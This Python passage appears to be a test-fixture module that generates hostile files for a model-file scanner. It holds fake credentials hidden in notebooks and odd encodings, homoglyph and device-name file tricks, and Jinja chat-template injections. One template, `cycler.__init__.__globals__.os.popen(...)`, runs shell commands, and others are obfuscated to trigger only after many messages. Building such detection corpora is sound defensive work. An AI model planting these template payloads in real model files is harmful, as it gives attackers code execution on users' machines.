    "pypi": "pypi-AgEIcHlwaS5vcmc" + "CJDk3ZWY4YzQtMWIyYS00ZjNlLTlkOGMtN2I2YTVmNGUzZDJjAAIqWzMsImF",
    "npm": "//registry.npmjs.org/:_authToken=npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "slack hook": "https://hooks.slack.com/services/T0A1B2C3D/B0E4F5G6H/" + "x7Kq9Lm2Np4Rs6Tu8Vw0Yz1A",
    "jwt": "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "service account": json.dumps({"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" * 4 + "\n"}),
    "key in base64": "client-key-data: " + base64.b64encode(b"-----BEGIN RSA PRIVATE KEY-----\n" + b"MIIEowIBAAKCAQEA7" * 9).decode(),
    "pgp": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + "lQOYBGPq3ZkBCADQw8n1yGm3rL5tZ2kX9" * 4 + "\n",
    "nvidia": "NGC_KEY=nvapi-" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8a1B2c3D4e5F6g7H8i9J0k1L2m3N4",
    "groq": "gsk_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8a1B2c3D4e5F6g7H8",
    "databricks": "dapi" + "8f3a1c9d7e5b2460f1a3c5d7e9b02468",
    "sendgrid": "SG.a1B2c3D4e5F6g7H8i9J0kw.k1L2m3N4o5P6q7R8a1B2c3D4e5F6g7H8i9J0k1L2m3N",
    "vault": "VAULT_TOKEN=hvs." + "CAESIJa1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8a1B2c3D4",
    "netrc": "machine api.wandb.ai\n  login user\n  password 8f3a1c9d7e5b2460f1a3c5d7e9b0246813579bdf\n",
    "docker": json.dumps({"auths": {"registry.test": {"auth": base64.b64encode(b"ada:correct-horse-battery").decode()}}}),
    "google oauth": "client_secret = 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",
    "age": "AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQS2K3JQ9",
}  # fmt: skip


def _secrets() -> dict[str, bytes]:
    made = {f"{name}.txt": f"# settings\n{text}\n".encode() for name, text in SECRETS.items()}
    notebook = {
        "cells": [
            {"cell_type": "code", "source": ["import os\n", f"os.environ['K'] = '{SECRETS['pypi']}'\n"], "outputs": []}
        ]
    }
    output = {"cells": [{"outputs": [{"text": ["token: glpat-" + "a1B2c3D4e5F6g7H8i9J0\n"]}]}]}
    return made | {
        "notebook.ipynb": json.dumps(notebook).encode(),
        "notebook-output.ipynb": json.dumps(output).encode(),
        "utf16.env": SECRETS["wandb"].encode("utf-16"),
        "latin.ini": b"# cl\xe9\nkey = AKIAQ3EGUJ4TZ5WXN7PL\n",
        "deep.md": ("x" * 99 + "\n").encode() * 4000 + b"glpat-" + b"a1B2c3D4e5F6g7H8i9J0\n",
    }


def _templates(shell: str) -> dict[str, bytes]:
    made = {
        "late-join": "{% if messages|length > 99 %}{% set k = ['_','_','class','_','_']|join %}{{ ''[k] }}{% endif %}",
        "late-replace": "{% if messages|length > 99 %}{% set k = '..class..'|replace('.','__') %}{{ x[k] }}{% endif %}",
        "late-loop": "{% if messages|length > 99 %}{% for k in ['_' * 2 ~ 'class' ~ '_' * 2] %}{{ ''[k] }}{% endfor %}{% endif %}",
        "late-namespace": "{% set ns = namespace(k='') %}{% if messages|length > 99 %}{% set ns.k = '_' ~ '_cl' %}{{ ''[ns.k] }}{% endif %}",
        "late-with": "{% if messages|length > 99 %}{% with k = '%c%cclass'|format(95, 95) %}{{ ''[k] }}{% endwith %}{% endif %}",
        "map-attr": "{% if messages|length > 99 %}{% set k = messages[0].content %}{{ ['']|map('attr', k)|list }}{% endif %}",
        "user-chooses": "{% if messages|length > 99 %}{{ ''[messages[0].content] }}{% endif %}",
        "format-made": "{% if messages|length > 99 %}{{ (messages[0].content).format(messages) }}{% endif %}",
        "format-map": "{% if messages|length > 99 %}{{ messages[0].content.format_map(x) }}{% endif %}",
    }
    files = {f"{name}/chat_template.jinja": source.encode() for name, source in made.items()}
    evil = "{{ cycler.__init__.__globals__.os.popen('" + shell + "') }}"
    return files | {
        "bom/tokenizer_config.json": b"\xef\xbb\xbf" + json.dumps({"chat_template": evil}).encode(),
        "utf16/tokenizer_config.json": json.dumps({"chat_template": evil}).encode("utf-16"),
        "yaml/config.yaml": b"tokenizer:\n  chat_template: |\n    " + evil.encode() + b"\n",
        "comment/tokenizer_config.json": b"/* x */" + json.dumps({"chat_template": evil}).encode(),
        "latin/chat_template.jinja": b"{# \xe9 #}" + evil.encode(),
        "no-ending/chat_template": evil.encode(),
    }


FOLDERS = {
    "case": ("config.json", "Config.json"),
    "compatibility": ("config.json", "\uff43onfig.json"),
    "mixed letters": ("c\u043enfig.json",),
    "git hooks": (".git/config", "model.txt"),
    "trailing dot": ("config.json.",),
    "device name": ("NUL.txt",),
}
"""Names of files that no folder may have together."""


def hostile(shell: str) -> dict[str, bytes]:
    """Every hostile file by a name that says what it is; `shell` is what a program among them would run."""
    parts = {
        "behind": _behind_a_magic(shell), "numpy": _numpy(), "zip": _zips(), "protobuf": _protobufs(), "keras": _keras(),
        "config": _configs(shell), "wrong": _wrong_weights(), "header": _headers(), "program": _programs(),
        "secret": _secrets(), "template": _templates(shell), "other": _others(), "setup": _setups(),
    }  # fmt: skip
    return {f"{part}/{name}": data for part, files in parts.items() for name, data in files.items()}


__all__ = [
    "FOLDERS",
    "SECRETS",
    "WEIGHTS",
    "coreml",
    "field",
    "gguf_tensors",
    "hostile",
    "onnx",
    "onnx_tensor",
    "packed_array",
    "tflite",
]
